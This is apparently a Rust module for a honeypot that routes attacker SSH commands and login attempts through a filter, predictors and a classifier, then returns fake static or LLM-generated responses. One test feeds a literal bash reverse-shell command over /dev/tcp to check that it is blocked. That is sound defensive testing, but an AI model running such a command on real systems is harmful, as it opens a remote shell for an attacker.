// Cognitive Director (spec.md §4.8 / C8): the orchestration loop a real
// deployment calls once per interaction. Owns predictor persistence
// lifecycle, wires the Reflex Filter, the Complexity Router, the Behavioral
// Classifier, health/circuit-breaker state, and the static/generative
// response surface into the nine-step protocol.

use std::collections::HashSet;
use std::sync::Arc;
use std::time::Instant;

use chrono::{DateTime, Utc};
use tokio::sync::Mutex;

use crate::config::{CoreConfig, Mode};
use crate::context::cmd_base;
use crate::discovery;
use crate::health::{DegradationLevel, HealthState, PassthroughFailsafe};
use crate::interaction::{Interaction, Payload};
use crate::persistence::ModelStore;
use crate::predictor::{PredictResult, Predictor};
use crate::reflex::{CircuitBreaker, CircuitLevel, ReflexFilter, ReflexVerdict};
use crate::response::{blocked, LlmProvider, ResponseKind, StaticEmulator};
use crate::router;
use crate::scoring::classifier::BehavioralClassifier;
use crate::session_store::SessionStore;
use crate::telemetry::{AlertSink, AlertSeverity, ExitLayer, TelemetrySink};
use crate::whitelist::command_whitelist_set;

const SSH_MARKOV_KEY: &str = "ssh_markov";
const HTTP_MARKOV_KEY: &str = "http_markov";
const CLASSIFIER_KEY: &str = "classifier";

pub struct Director {
    config: CoreConfig,
    sessions: SessionStore,
    ssh_predictor: Mutex<Predictor>,
    http_predictor: Mutex<Predictor>,
    classifier: BehavioralClassifier,
    reflex: ReflexFilter,
    circuit: CircuitBreaker,
    health: Mutex<HealthState>,
    failsafe: Mutex<PassthroughFailsafe>,
    model_store: Arc<dyn ModelStore>,
    static_emulator: Arc<dyn StaticEmulator>,
    llm: Option<Arc<dyn LlmProvider>>,
    telemetry: Arc<dyn TelemetrySink>,
    alerts: Arc<dyn AlertSink>,
    whitelist: HashSet<String>,
}

impl Director {
    /// Construct a director, restoring predictors and the classifier from
    /// `model_store` if a prior blob exists (falling back to a fresh model
    /// on `CorruptModel`), and ensuring the storage directory exists is the
    /// caller's job before this runs (spec.md §4.8 construction lifecycle).
    pub async fn new(
        config: CoreConfig,
        model_store: Arc<dyn ModelStore>,
        static_emulator: Arc<dyn StaticEmulator>,
        llm: Option<Arc<dyn LlmProvider>>,
        telemetry: Arc<dyn TelemetrySink>,
        alerts: Arc<dyn AlertSink>,
    ) -> Self {
        let now = Utc::now();
        let ssh_predictor =
            restore_predictor(model_store.as_ref(), SSH_MARKOV_KEY, config.max_order_ssh, config.discount).await;
        let http_predictor =
            restore_predictor(model_store.as_ref(), HTTP_MARKOV_KEY, config.max_order_http, config.discount).await;
        let classifier = restore_classifier(model_store.as_ref()).await;

        Self {
            sessions: SessionStore::new(config.max_sessions, config.max_ai_memory_mb, config.decay_rate),
            ssh_predictor: Mutex::new(ssh_predictor),
            http_predictor: Mutex::new(http_predictor),
            classifier,
            reflex: ReflexFilter::new(),
            circuit: CircuitBreaker::new(),
            health: Mutex::new(HealthState::new(now)),
            failsafe: Mutex::new(PassthroughFailsafe::default()),
            model_store,
            static_emulator,
            llm,
            telemetry,
            alerts,
            whitelist: command_whitelist_set(),
            config,
        }
    }

    /// Report a CPU/memory sample (and whether a fatal condition was
    /// observed) from the caller's own monitoring loop — an external
    /// collaborator per spec.md §6, out of this crate's non-goals.
    pub async fn observe_health(&self, cpu_pct: f64, mem_pct: f64, fatal: bool) {
        let now = Utc::now();
        let mut health = self.health.lock().await;
        let before = health.level();
        health.observe(cpu_pct, mem_pct, fatal, now);
        if health.level() != before {
            self.telemetry.record_health_transition(health.level());
        }
    }

    pub async fn reset_health(&self) {
        self.health.lock().await.reset(Utc::now());
    }

    /// Handle one interaction end to end, returning the attacker-visible
    /// response text. Never panics and never returns an `Err` — every
    /// internal failure is absorbed per the fail-open taxonomy
    /// (spec.md §4.10); only a tripped passthrough failsafe yields an empty
    /// string, signalling the outer service to pass traffic through as-is.
    pub async fn handle(&self, interaction: Interaction) -> String {
        let now = interaction.received_at;
        let started = Instant::now();

        {
            let failsafe = self.failsafe.lock().await;
            if failsafe.should_failover() {
                return String::new();
            }
        }

        let ctx_arc = self
            .sessions
            .get_or_create(&interaction.attacker_ip, &interaction.session_id, now)
            .await;
        let mut ctx = ctx_arc.lock().await;
        ctx.touch(&interaction.session_id, now);

        let (payload_text, kind, prediction) = match &interaction.payload {
            Payload::SshCommand { command } => {
                ctx.record_ssh_command(command, now);
                let window_start = ctx
                    .ssh_command_history
                    .len()
                    .saturating_sub(self.config.max_order_ssh + 1);
                let window = ctx.ssh_command_history[window_start..].to_vec();
                let history_before_current = if ctx.ssh_command_history.len() > 1 {
                    ctx.ssh_command_history[..ctx.ssh_command_history.len() - 1].to_vec()
                } else {
                    Vec::new()
                };

                let mut predictor = self.ssh_predictor.lock().await;
                predictor.learn(&window);
                let prediction = predictor.predict(&history_before_current, Some(&self.whitelist));
                (command.clone(), ResponseKind::SshCommand, prediction)
            }
            Payload::HttpLogin { username, password } => {
                ctx.record_login_attempt(username, password, now);
                let usernames: Vec<String> = ctx.login_attempts.iter().map(|(u, _)| u.clone()).collect();
                let window_start = usernames.len().saturating_sub(self.config.max_order_http + 1);
                let window = usernames[window_start..].to_vec();
                let history_before_current = if usernames.len() > 1 {
                    usernames[..usernames.len() - 1].to_vec()
                } else {
                    Vec::new()
                };

                let mut predictor = self.http_predictor.lock().await;
                predictor.learn(&window);
                let prediction = predictor.predict(&history_before_current, None);
                (format!("{username}:{password}"), ResponseKind::HttpLogin, prediction)
            }
        };

        self.maybe_record_discovery(&mut ctx, now);

        if ctx.score(now) >= 80.0 || ctx.risk_level(now) == crate::scoring::accumulator::RiskLevel::Critical {
            self.alerts.alert(&interaction.attacker_ip, AlertSeverity::Critical, "threat score critical");
        }

        let reflex_started = Instant::now();
        let l0 = self.reflex.check(&interaction.attacker_ip, &payload_text, now);
        self.circuit
            .record_latency(reflex_started.elapsed().as_secs_f64() * 1000.0);

        if let Some(response) = self.respond_to_l0(&l0, &interaction.attacker_ip) {
            self.record_success(&interaction.attacker_ip, started).await;
            return response;
        }

        let health_level = self.health.lock().await.level();
        let forced_static = (health_level < DegradationLevel::Normal && !self.config.l1_influence)
            || self.circuit.level() == CircuitLevel::StaticOnly;

        if forced_static {
            self.telemetry.record_exit(ExitLayer::L1, &interaction.attacker_ip);
            let response = self.static_emulator.generate(kind, &ctx.summary(now), &ctx);
            self.record_success(&interaction.attacker_ip, started).await;
            return response;
        }

        if kind == ResponseKind::SshCommand {
            if router::check_l1_exit(&ctx, prediction.as_ref(), &self.config) == router::RouteVerdict::Static {
                self.telemetry.record_exit(ExitLayer::L1, &interaction.attacker_ip);
                let response = self.static_emulator.generate(kind, &ctx.summary(now), &ctx);
                self.record_success(&interaction.attacker_ip, started).await;
                return response;
            }
        }

        router::check_l2_exit(&mut ctx, &self.classifier, &self.config, now);

        let novelty = router::novelty_score(&ctx, &payload_text);
        let engagement = router::engagement_quality(&ctx, now);
        if router::check_l3_exit(novelty, engagement, &self.config) == router::RouteVerdict::Static {
            self.telemetry.record_exit(ExitLayer::L3, &interaction.attacker_ip);
            let response = self.static_emulator.generate(kind, &ctx.summary(now), &ctx);
            self.record_success(&interaction.attacker_ip, started).await;
            return response;
        }

        if self.config.mode != Mode::Engagement {
            self.telemetry.record_exit(ExitLayer::L3, &interaction.attacker_ip);
            let response = self.static_emulator.generate(kind, &ctx.summary(now), &ctx);
            self.record_success(&interaction.attacker_ip, started).await;
            return response;
        }

        let response = match &self.llm {
            Some(provider) => {
                let summary = ctx.summary(now);
                match provider.generate(&summary, &ctx).await {
                    Ok(body) => {
                        self.telemetry.record_exit(ExitLayer::L4, &interaction.attacker_ip);
                        crate::response::llm_ready(provider.name(), &body)
                    }
                    Err(_) => {
                        self.telemetry.record_exit(ExitLayer::L3, &interaction.attacker_ip);
                        self.static_emulator.generate(kind, &ctx.summary(now), &ctx)
                    }
                }
            }
            None => {
                self.telemetry.record_exit(ExitLayer::L3, &interaction.attacker_ip);
                self.static_emulator.generate(kind, &ctx.summary(now), &ctx)
            }
        };

        self.record_success(&interaction.attacker_ip, started).await;
        response
    }

    fn respond_to_l0(&self, verdict: &ReflexVerdict, attacker_ip: &str) -> Option<String> {
        match verdict {
            ReflexVerdict::Blocked(reason) => {
                self.telemetry.record_exit(ExitLayer::L0, attacker_ip);
                self.alerts.alert(attacker_ip, AlertSeverity::High, reason);
                Some(blocked(reason))
            }
            ReflexVerdict::NoiseFake(category) => {
                self.telemetry.record_exit(ExitLayer::L0, attacker_ip);
                Some(boring_response_for(category))
            }
            ReflexVerdict::CacheHit(_) => {
                self.telemetry.record_exit(ExitLayer::L0, attacker_ip);
                Some(String::new())
            }
            ReflexVerdict::Proceed => None,
        }
    }

    fn maybe_record_discovery(&self, ctx: &mut crate::context::AttackerContext, now: DateTime<Utc>) {
        if ctx.discovered {
            return;
        }
        let summary = ctx.summary(now);
        if discovery::is_discovered(summary.duration_seconds, &ctx.ssh_command_history) {
            ctx.discovered = true;
            self.telemetry.record_mttd(&ctx.ip, summary.duration_seconds);
        }
    }

    async fn record_success(&self, _attacker_ip: &str, started: Instant) {
        self.telemetry
            .record_latency(ExitLayer::Passthrough, started.elapsed().as_secs_f64() * 1000.0);
        self.failsafe.lock().await.record(true);
    }

    /// Persist both predictors and the classifier (spec.md §4.8 shutdown
    /// persistence, one of the three suspension points).
    pub async fn shutdown(&self) -> anyhow::Result<()> {
        let ssh = self.ssh_predictor.lock().await;
        self.model_store.save(SSH_MARKOV_KEY, &ssh.to_json()?).await?;
        let http = self.http_predictor.lock().await;
        self.model_store.save(HTTP_MARKOV_KEY, &http.to_json()?).await?;
        self.model_store
            .save(CLASSIFIER_KEY, &self.classifier.to_json()?)
            .await?;
        Ok(())
    }
}

fn boring_response_for(category: &str) -> String {
    match category {
        "timeout" => String::new(),
        "segfault" => "500".to_string(),
        _ => "401".to_string(),
    }
}

async fn restore_predictor(store: &dyn ModelStore, key: &str, max_order: usize, discount: f64) -> Predictor {
    match store.load(key).await {
        Ok(Some(json)) => Predictor::from_json(&json).unwrap_or_else(|_| Predictor::new(max_order, discount)),
        _ => Predictor::new(max_order, discount),
    }
}

async fn restore_classifier(store: &dyn ModelStore) -> BehavioralClassifier {
    match store.load(CLASSIFIER_KEY).await {
        Ok(Some(json)) => BehavioralClassifier::from_json(&json).unwrap_or_else(|_| BehavioralClassifier::cold_start()),
        _ => BehavioralClassifier::cold_start(),
    }
}

#[allow(dead_code)]
fn predicted_matches(prediction: &Option<PredictResult>, base: &str) -> bool {
    prediction.as_ref().map(|p| p.predicted_token == base).unwrap_or(false)
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::persistence::FileModelStore;
    use crate::response::StubEmulator;
    use crate::telemetry::{TracingAlerts, TracingTelemetry};
    use chrono::Utc;

    fn interaction(ip: &str, session: &str, command: &str, now: DateTime<Utc>) -> Interaction {
        Interaction {
            attacker_ip: ip.to_string(),
            session_id: session.to_string(),
            payload: Payload::SshCommand {
                command: command.to_string(),
            },
            received_at: now,
        }
    }

    async fn test_director(dir: &std::path::Path) -> Director {
        let store = Arc::new(FileModelStore::new(dir));
        store.ensure_dir().await.unwrap();
        Director::new(
            CoreConfig::default(),
            store,
            Arc::new(StubEmulator),
            None,
            Arc::new(TracingTelemetry),
            Arc::new(TracingAlerts),
        )
        .await
    }

    #[tokio::test]
    async fn first_recon_command_routes_static_and_trains_predictor() {
        let dir = tempfile::tempdir().unwrap();
        let director = test_director(dir.path()).await;
        let now = Utc::now();
        let response = director.handle(interaction("1.2.3.4", "s1", "ls -la", now)).await;
        assert!(!response.is_empty());
    }

    #[tokio::test]
    async fn reverse_shell_is_blocked() {
        let dir = tempfile::tempdir().unwrap();
        let director = test_director(dir.path()).await;
        let now = Utc::now();
        let response = director
            .handle(interaction("9.9.9.9", "s1", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", now))
            .await;
        assert!(response.starts_with("[BLOCKED]"));
    }

    #[tokio::test]
    async fn shutdown_persists_predictors() {
        let dir = tempfile::tempdir().unwrap();
        let director = test_director(dir.path()).await;
        let now = Utc::now();
        director.handle(interaction("1.2.3.4", "s1", "ls -la", now)).await;
        director.shutdown().await.unwrap();
        assert!(dir.path().join("ssh_markov.json").exists());
        assert!(dir.path().join("http_markov.json").exists());
        assert!(dir.path().join("classifier.json").exists());
    }

    #[tokio::test]
    async fn failsafe_blanks_response_once_tripped() {
        let dir = tempfile::tempdir().unwrap();
        let director = test_director(dir.path()).await;
        let now = Utc::now();
        for _ in 0..10 {
            director.failsafe.lock().await.record(false);
        }
        let response = director.handle(interaction("1.2.3.4", "s1", "ls", now)).await;
        assert_eq!(response, "");
    }

    #[test]
    fn cmd_base_is_reexported_for_novelty_callers() {
        assert_eq!(cmd_base("ls -la"), "ls");
    }
}
